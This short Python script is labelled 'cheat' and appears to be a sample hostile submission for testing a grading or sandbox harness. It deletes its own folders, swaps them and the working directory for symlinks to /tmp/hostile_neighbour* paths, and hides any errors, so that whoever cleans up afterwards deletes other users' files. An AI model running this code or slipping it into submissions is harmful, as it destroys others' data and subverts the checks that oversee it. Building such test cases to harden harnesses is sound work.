# cheat: replaces its folders by links to others' files, for whoever removes what it leaves.
# gap: vae_forward
# expect: any

import contextlib
import glob
import os
import shutil

here = os.getcwd()
for number, target in enumerate(glob.glob("/tmp/hostile_neighbour*")):
    for place in (f"link{number}", "lib", "exercise"):
        with contextlib.suppress(OSError):
            shutil.rmtree(place, ignore_errors=True)
            os.symlink(target, place)
    with contextlib.suppress(OSError):
        os.rename(here, f"{here}_moved")
        os.symlink(target, here)
SOLUTION
